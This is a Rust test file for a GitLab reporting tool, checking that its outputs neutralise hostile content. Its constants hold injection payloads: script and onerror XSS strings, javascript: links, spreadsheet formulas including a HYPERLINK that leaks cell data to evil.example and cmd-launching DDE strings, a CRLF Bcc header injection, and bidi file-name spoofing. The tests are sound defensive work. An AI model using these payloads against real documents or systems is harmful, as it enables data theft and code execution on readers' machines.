//! Hostile content: titles, descriptions, labels, project paths and display names written to
//! attack whoever reads the report (script in HTML, links and images in Markdown, formulas in a
//! spreadsheet, control and bidirectional characters in a terminal, a header injected into an
//! email), harvested from the fake GitLab and rendered in every format.
//!
//! Each format is checked with a reader of that format, not by searching for strings only:
//! - HTML: every tag and attribute in the output is one the built-in templates write, every link
//!   is http(s), and the hostile text is there, escaped;
//! - Markdown: parsed as CommonMark with tables (pulldown-cmark): no raw HTML, no image, every
//!   link goes to the GitLab instance, every table row has its header's cell count, and the
//!   hostile text reads as text;
//! - CSV: parsed as RFC 4180: every row as wide as the header, no cell a spreadsheet would run as
//!   a formula;
//! - JSON: parses, and gives back exactly the strings GitLab sent;
//! - email: no header injected by a display name, and both parts pass the checks above;
//! - everywhere: no raw control character (but line breaks and tabs where they belong) and no
//!   bidirectional control.

use std::collections::BTreeSet;
use std::path::Path;

use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::Value;

use crate::fake_gitlab::{Dataset, FakeGitlab, Faults, Issue, MergeRequest};
use crate::smtp_server::{Encryption, Options as SmtpOptions, SmtpServer};
use crate::support::*;

const ALICE_NAME: &str = "Alice <b>Liddell</b>\r\nBcc: everyone@example.com \u{202E}gpj.exe";
const BOB_NAME: &str =
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bob\") | [Bob](javascript:alert(1))";
const EVIL_PROJECT: &str = "acme/<script>alert(1)</script>";

const SCRIPT: &str = "<script>alert('title')</script><img src=x onerror=alert(1)> & done";
const MARKDOWN: &str = "[click me](javascript:alert(1)) ![pixel](http://evil.example/p.png) <!-- hidden --> <div onclick=\"x()\">raw</div> `tick` ``` | a | b | *em* _u_ @all #1 !2 ~3";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
const PLUS: &str = "+1+cmd|' /C calc'!A0";
const MINUS: &str = "-2+3";
const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const TAB: &str = "\t=1+1 tab first";
const CR: &str = "\r=1+1 carriage return first";
const CONTROLS: &str = "bell\u{7} esc\u{1b}[31mred nul\u{0} del\u{7f} c1\u{85}\u{9b} end";
const BIDI: &str = "invoice\u{202E}gpj.exe \u{2066}isolated\u{2069} \u{200F}rlm\u{200E}lrm\u{061C}";
const EMOJI: &str = "🚀 déploiement e\u{301} 👩🏽‍💻 Z\u{334}\u{327}a\u{337}l\u{338}g\u{335}o";
const MULTILINE: &str = "first line\n# not a heading\n- not a list\n<script>x</script>";

/// A 100 KB title.
fn long_title() -> String {
    format!("Long {}", "0123456789<>&\"' ".repeat(6_400))
}

/// Every hostile title, as GitLab serves it.
fn titles() -> Vec<String> {
    let mut titles: Vec<String> = [
        SCRIPT, MARKDOWN, FORMULA, PLUS, MINUS, AT, TAB, CR, CONTROLS, BIDI, EMOJI, MULTILINE,
    ]
    .map(String::from)
    .to_vec();
    titles.push(long_title());
    titles
}

const HOSTILE_LABELS: [&str; 5] = [
    "<script>alert(1)</script>",
    "=1+1",
    "[x](javascript:alert(1))",
    "`code` | pipe",
    "corrective action",
];

/// Alice and Bob, each with a merge request per hostile title (labels and descriptions hostile
/// too), in a project whose path is hostile; Alice also has an issue.
fn hostile() -> Dataset {
    let mut data = Dataset::new()
        .user(101, "alice", ALICE_NAME)
        .user(104, "bob", BOB_NAME)
        .project(201, "acme/platform", "public")
        .project(202, EVIL_PROJECT, "public")
        .token_owner("alice");
    for (n, title) in titles().iter().enumerate() {
        let n = n as u64;
        for (user, offset) in [("alice", 0), ("bob", 100)] {
            data = data.mr(MergeRequest::new(
                5000 + offset + n,
                if n % 2 == 0 { 201 } else { 202 },
                10 + offset + n,
                title,
                user,
                "2026-07-03T09:00:00Z",
            )
            .merged("2026-07-10T15:30:00Z")
            .labels(&HOSTILE_LABELS)
            .description(&format!("{MARKDOWN}\n\n{SCRIPT}\n\n{FORMULA}")));
        }
    }
    data.issue(
        Issue::new(8001, 202, 1, SCRIPT, "alice", "2026-07-04T09:00:00Z")
            .labels(&HOSTILE_LABELS)
            .description(MARKDOWN),
    )
}

// ---------------------------------------------------------------------------------------------
// What is never allowed, in any format.

fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
}

/// No bidirectional control, and no control character but those `allowed`.
fn assert_no_raw_controls(what: &str, text: &str, allowed: &[char]) {
    for (n, c) in text.chars().enumerate() {
        assert!(
            !is_bidi_control(c) && (!c.is_control() || allowed.contains(&c)),
            "{what}: raw {c:?} (U+{:04X}) at char {n}: …{}…",
            c as u32,
            text.chars()
                .skip(n.saturating_sub(40))
                .take(80)
                .collect::<String>()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// HTML.

/// Tag and attribute names the built-in HTML templates write: the only ones a report may hold.
fn template_vocabulary() -> (BTreeSet<String>, BTreeSet<String>) {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
    let mut tags = BTreeSet::new();
    let mut attributes = BTreeSet::new();
    for entry in std::fs::read_dir(&dir).expect("templates dir") {
        let path = entry.expect("entry").path();
        if !path.to_string_lossy().ends_with(".html.hbs") {
            continue;
        }
        for (tag, attrs) in html_tags(&read_text(&path)) {
            tags.insert(tag);
            attributes.extend(attrs.into_iter().map(|(name, _)| name));
        }
    }
    // `{{…}}` inside a tag reads as an attribute name here; it is not one.
    attributes.retain(|a| !a.contains('{') && !a.contains('}'));
    (tags, attributes)
}

/// Every tag in `html` (outside `<style>`): its lower-cased name and attributes.
fn html_tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let after = &rest[start + 1..];
        let end = after.find('>').unwrap_or(after.len());
        let inside = &after[..end];
        let body = inside.trim_start_matches('/');
        let name: String = body
            .chars()
            .take_while(|c| !c.is_whitespace() && *c != '/')
            .collect::<String>()
            .to_ascii_lowercase();
        found.push((name.clone(), attributes(&body[name.len()..])));
        rest = &after[end.min(after.len())..];
        if name == "style" {
            // CSS may hold `>`; skip to the closing tag.
            match rest.find("</style>") {
                Some(close) => rest = &rest[close..],
                None => break,
            }
        }
    }
    found
}

/// `name="value"` pairs (also bare names) of a tag's inside.
fn attributes(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut chars = text.trim_start_matches('/').chars().peekable();
    loop {
        while chars.peek().is_some_and(|c| c.is_whitespace() || *c == '/') {
            chars.next();
        }
        let name: String =
            std::iter::from_fn(|| chars.next_if(|c| !c.is_whitespace() && *c != '=' && *c != '/'))
                .collect();
        if name.is_empty() {
            break;
        }
        let mut value = String::new();
        if chars.next_if_eq(&'=').is_some() {
            match chars.peek() {
                Some(&q @ ('"' | '\'')) => {
                    chars.next();
                    value = std::iter::from_fn(|| chars.next_if(|c| *c != q)).collect();
                    chars.next();
                }
                _ => value = std::iter::from_fn(|| chars.next_if(|c| !c.is_whitespace())).collect(),
            }
        }
        out.push((name.to_ascii_lowercase(), value));
    }
    out
}

fn check_html(what: &str, html: &str, gitlab: &str) {
    let (tags, allowed_attributes) = template_vocabulary();
    for (tag, attrs) in html_tags(html) {
        assert!(
            tags.contains(&tag),
            "{what}: tag <{tag}> is not one the templates write (they write {tags:?})"
        );
        for (name, value) in attrs {
            assert!(
                allowed_attributes.contains(&name),
                "{what}: attribute {name}={value:?} on <{tag}> is not one the templates write"
            );
            assert!(
                !value.to_ascii_lowercase().contains("javascript:"),
                "{what}: {name}={value:?}"
            );
            if name == "href" || name == "src" {
                assert!(
                    value.starts_with(gitlab),
                    "{what}: <{tag} {name}={value:?}> leads outside the GitLab instance"
                );
            }
        }
    }
    // Tabs and line breaks are plain white space in HTML.
    assert_no_raw_controls(what, html, &['\n', '\t']);
}

/// The brag's hostile titles are there, escaped.
fn assert_html_readable(what: &str, html: &str) {
    assert!(
        html.contains("&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt;"),
        "{what}: the <script> title is not shown escaped"
    );
    assert!(
        html.contains("🚀 déploiement e\u{301}"),
        "{what}: emoji lost"
    );
    assert!(
        html.contains("invoicegpj.exe"),
        "{what}: bidi title unreadable"
    );
}

// ---------------------------------------------------------------------------------------------
// Markdown.

/// Parses `markdown` as GitLab would (CommonMark, tables, strikethrough) and returns its text.
fn check_markdown(what: &str, markdown: &str, gitlab: &str) -> String {
    let mut text = String::new();
    let mut row_cells: Option<usize> = None;
    let mut header_cells = 0;
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    for event in Parser::new_ext(markdown, options) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => {
                panic!("{what}: raw HTML {html:?} in the Markdown")
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                panic!("{what}: an image ({dest_url}) in the Markdown")
            }
            Event::Start(Tag::Link { dest_url, .. }) => assert!(
                dest_url.starts_with(gitlab),
                "{what}: a link to {dest_url} in the Markdown"
            ),
            Event::Start(Tag::Table(_)) => text.push_str("\u{1}table\u{1}"),
            Event::Start(Tag::TableHead) => {
                row_cells = Some(0);
            }
            Event::End(pulldown_cmark::TagEnd::TableHead) => {
                header_cells = row_cells.take().unwrap_or(0);
            }
            Event::Start(Tag::TableRow) => row_cells = Some(0),
            Event::End(pulldown_cmark::TagEnd::TableRow) => {
                let cells = row_cells.take().unwrap_or(0);
                assert_eq!(
                    cells, header_cells,
                    "{what}: a table row has {cells} cells, its header {header_cells}"
                );
            }
            Event::Start(Tag::TableCell) => {
                if let Some(n) = row_cells.as_mut() {
                    *n += 1;
                }
            }
            Event::Text(t) | Event::Code(t) => text.push_str(&t),
            Event::SoftBreak | Event::HardBreak => text.push('\n'),
            _ => {}
        }
    }
    assert_no_raw_controls(what, markdown, &['\n']);
    text
}

/// The Markdown's text reads as the hostile titles did, less what is never shown.
fn assert_markdown_readable(what: &str, text: &str) {
    for shown in [
        "<script>alert('title')</script><img src=x onerror=alert(1)> & done",
        "[click me](javascript:alert(1)) ![pixel](http://evil.example/p.png) <!-- hidden -->",
        "🚀 déploiement e\u{301} 👩🏽‍💻",
        "invoicegpj.exe",
    ] {
        assert!(
            text.contains(shown),
            "{what}: {shown:?} does not read as text"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// CSV.

/// RFC 4180 records.
fn parse_csv(what: &str, text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => {
                assert!(
                    c != '"' && c != '\r' && c != '\n',
                    "{what}: stray {c:?} outside quotes in row {}",
                    rows.len() + 1
                );
                cell.push(c);
            }
        }
    }
    assert!(!quoted, "{what}: unterminated quote");
    assert!(row.is_empty() && cell.is_empty(), "{what}: no final CRLF");
    rows
}

fn check_csv(what: &str, text: &str) -> Vec<Vec<String>> {
    let rows = parse_csv(what, text);
    let width = rows[0].len();
    for (n, row) in rows.iter().enumerate() {
        assert_eq!(
            row.len(),
            width,
            "{what}: row {} is {} wide",
            n + 1,
            row.len()
        );
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: row {} has a cell a spreadsheet runs: {:?}",
                n + 1,
                cell.chars().take(60).collect::<String>()
            );
            assert_no_raw_controls(what, cell, &['\n', '\t']);
        }
    }
    rows
}

// ---------------------------------------------------------------------------------------------
// The test.

struct Rendered {
    format: &'static str,
    kind: &'static str,
    text: String,
}

fn render_all(env: &TestEnv, classified: &Path) -> Vec<Rendered> {
    let mut out = Vec::new();
    for kind in ["brag", "team"] {
        for format in ["md", "html", "csv", "json"] {
            let path = env.path(&format!("{kind}.{format}"));
            let mut cmd = env.command();
            cmd.args(["report"])
                .arg(classified)
                .args(["--kind", kind, "--format", format, "--out"])
                .arg(&path);
            run(&mut cmd).success();
            out.push(Rendered {
                format,
                kind,
                text: read_text(&path),
            });
        }
    }
    out
}

#[test]
fn hostile_content_is_harmless_and_readable_in_every_format() {
    let env = TestEnv::new();
    let data = hostile();
    let fake = FakeGitlab::start(data, Faults::default());
    let gitlab = format!("{}/", fake.url);
    let snapshot = env.path("snapshot.json");
    let harvest = run(env
        .gl(&fake)
        .args(["harvest", "--user", "alice", "--user", "bob"])
        .args(["--quarter", "2026Q3", "--out"])
        .arg(&snapshot));
    harvest.success();
    assert_no_raw_controls("harvest stderr", &harvest.stderr, &['\n']);
    let classified = env.path("classified.json");
    run(env
        .command()
        .arg("classify")
        .arg(&snapshot)
        .arg("--out")
        .arg(&classified))
    .success();

    // The snapshot keeps GitLab's text exactly (it is data), in JSON that says it plainly.
    let harvested = read_snapshot(&classified);
    let got_titles: BTreeSet<String> = items(&harvested)
        .iter()
        .map(|i| i["title"].as_str().unwrap().to_string())
        .collect();
    let want_titles: BTreeSet<String> = titles().into_iter().collect();
    assert_eq!(
        got_titles, want_titles,
        "titles survive the snapshot exactly"
    );
    assert!(
        items(&harvested)
            .iter()
            .any(|i| i["competencies"].as_array().is_some_and(|c| !c.is_empty())),
        "the hostile items are classified, so the reports list them"
    );

    for Rendered { format, kind, text } in render_all(&env, &classified) {
        let what = format!("{kind}.{format}");
        if matches!(format, "md" | "html") {
            // The 100 KB title is cut to something a person can read.
            assert!(
                !text.contains(&long_title()),
                "{what}: the whole 100 KB title"
            );
            assert!(text.len() < 60_000, "{what}: {} bytes", text.len());
            if kind == "brag" {
                assert!(
                    text.contains("Long 0123456789"),
                    "{what}: long title missing"
                );
            }
        }
        match format {
            "html" => {
                check_html(&what, &text, &gitlab);
                if kind == "brag" {
                    assert_html_readable(&what, &text);
                }
                assert!(
                    text.contains("Alice &lt;b&gt;Liddell&lt;/b&gt;"),
                    "{what}: the display name reads as text"
                );
            }
            "md" => {
                let plain = check_markdown(&what, &text, &gitlab);
                if kind == "team" {
                    assert!(
                        plain.contains("\u{1}table\u{1}"),
                        "{what}: has tables to check"
                    );
                }
                if kind == "brag" {
                    assert_markdown_readable(&what, &plain);
                }
                assert!(
                    plain.contains("Alice <b>Liddell</b> Bcc: everyone@example.com gpj.exe")
                        || plain
                            .contains("Alice <b>Liddell</b>  Bcc: everyone@example.com gpj.exe"),
                    "{what}: the display name reads as text"
                );
            }
            "csv" => {
                let rows = check_csv(&what, &text);
                if kind == "brag" {
                    let cells: Vec<&String> = rows.iter().flatten().collect();
                    for title in [FORMULA, PLUS, MINUS, AT] {
                        assert!(
                            cells.iter().any(|c| c.strip_prefix('\'') == Some(title)),
                            "{what}: {title:?} is kept, behind a quote"
                        );
                    }
                }
            }
            "json" => {
                assert_no_raw_controls(&what, &text, &['\n']);
                let value: Value = serde_json::from_str(&text)
                    .unwrap_or_else(|e| panic!("{what} is not JSON: {e}"));
                let again: Value = serde_json::from_str(&value.to_string()).unwrap();
                assert_eq!(value, again);
                let text_of = value.to_string();
                if kind == "brag" {
                    let titles: BTreeSet<String> = value["items"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|i| i["title"].as_str().unwrap().to_string())
                        .collect();
                    assert_eq!(titles, want_titles, "{what}: titles round-trip exactly");
                }
                assert!(
                    text_of.contains("Alice <b>Liddell</b>\\r\\nBcc"),
                    "{what}: the display name is kept as data"
                );
            }
            _ => unreachable!(),
        }
    }
}

#[test]
fn hostile_content_in_an_email_injects_no_header_and_no_markup() {
    let env = TestEnv::new();
    let fake = FakeGitlab::start(hostile(), Faults::default());
    let gitlab = format!("{}/", fake.url);
    let server = SmtpServer::start(SmtpOptions::new(Encryption::None));
    run(env
        .gl(&fake)
        .env(
            "GL_EVIDENCE_SMTP_URL",
            format!("smtp://127.0.0.1:{}", server.port),
        )
        .env("GL_EVIDENCE_EMAIL_FROM", "CI <ci@example.com>")
        .args(["brag", "--user", "alice", "--quarter", "2026Q3"])
        .args(["--email", "alice@example.com", "--out"])
        .arg(env.path("brag.md")))
    .success();
    let message = server.only_message();
    assert_eq!(message.rcpt_to, ["alice@example.com"], "no recipient added");
    for line in message.header_lines() {
        let name = line.split(':').next().unwrap_or("").to_ascii_lowercase();
        assert_ne!(name, "bcc", "a display name injected a header: {line}");
        assert_no_raw_controls("email header", &line, &['\t']);
    }
    let mail = message.parsed();
    let subject = mail.subject().expect("a subject");
    assert_no_raw_controls("subject", subject, &[]);
    assert!(subject.contains("Alice <b>Liddell</b>"), "{subject}");
    let text = mail.body_text(0).expect("a text part");
    let plain = check_markdown("email text", &text.replace("\r\n", "\n"), &gitlab);
    assert_markdown_readable("email text", &plain);
    let html = mail.body_html(0).expect("an HTML part");
    let html = html.replace("\r\n", "\n");
    check_html("email html", &html, &gitlab);
    assert_html_readable("email html", &html);
}

#[test]
fn a_hostile_server_message_reaches_the_terminal_harmless() {
    let env = TestEnv::new();
    let fake = FakeGitlab::start(
        crate::scenario::team(),
        Faults {
            graphql: Some(crate::fake_gitlab::GraphqlFault::PartialData {
                message: "Timeout \u{1b}[2J\u{7}on \u{202E}gpj.exe\u{2066}".into(),
            }),
            targets: vec!["AuthoredMergeRequests".into()],
            ..Faults::default()
        },
    );
    let run = run(env
        .gl(&fake)
        .args(["harvest", "--user", "alice", "--quarter", "2026Q3", "--out"])
        .arg(env.path("snapshot.json")));
    run.code(3).stderr_has("Timeout");
    assert_no_raw_controls("stderr", &run.stderr, &['\n']);
    // The snapshot keeps GitLab's words without the characters that would disguise them.
    let text = read_text(&env.path("snapshot.json"));
    assert_no_raw_controls("snapshot", &text, &['\n']);
    assert!(
        text.contains("gpj.exe") && !text.contains("\\u202e"),
        "{text}"
    );
}
